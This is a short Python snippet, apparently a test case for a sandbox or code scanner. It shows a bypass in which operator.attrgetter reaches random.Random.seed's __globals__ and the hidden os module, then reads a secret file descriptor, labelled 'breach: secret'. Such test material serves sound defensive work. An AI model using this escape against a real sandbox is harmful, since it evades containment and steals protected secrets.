# operator.attrgetter follows names that the scan does not see.
# breach: secret
import operator, random
operator.attrgetter("seed.__globals__")(random.Random)["_os"].pread(SECRET_FD, 100, 0)
